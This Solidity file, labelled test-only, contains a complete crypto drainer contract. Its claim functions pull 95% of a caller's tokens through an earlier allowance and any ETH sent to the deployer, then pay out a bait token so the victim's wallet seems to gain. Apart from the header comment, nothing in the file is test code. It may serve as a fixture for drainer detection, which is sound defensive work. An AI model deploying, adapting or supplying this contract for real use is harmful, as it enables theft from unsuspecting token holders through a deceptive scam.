// SPDX-License-Identifier: MIT
// Test-only: a drainer kit's contract that pays back in bait. claim() forwards the ETH sent with it
// and 95% of the caller's tokens (through an allowance granted earlier) to the kit's owner, and
// hands the caller a pile of a pre-minted token so the wallet shows a gain. The bait comes from a
// stock address that approved this contract (a holder wallet, or the owner's own), or, in
// claimFromOwnStock(), from this contract's own balance.
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

contract BaitDrainer {
    address payable private immutable owner;
    IERC20 private immutable token;
    IERC20 private immutable bait;
    address private immutable stock;

    constructor(IERC20 token_, IERC20 bait_, address stock_) {
        owner = payable(msg.sender);
        token = token_;
        bait = bait_;
        stock = stock_;
    }

    function claim() external payable {
        _take();
        bait.transferFrom(stock, msg.sender, 1000 ether);
    }

    function claimFromOwnStock() external payable {
        _take();
        bait.transfer(msg.sender, 1000 ether);
    }

    function _take() private {
        token.transferFrom(msg.sender, owner, token.balanceOf(msg.sender) * 95 / 100);
        owner.transfer(msg.value);
    }
}
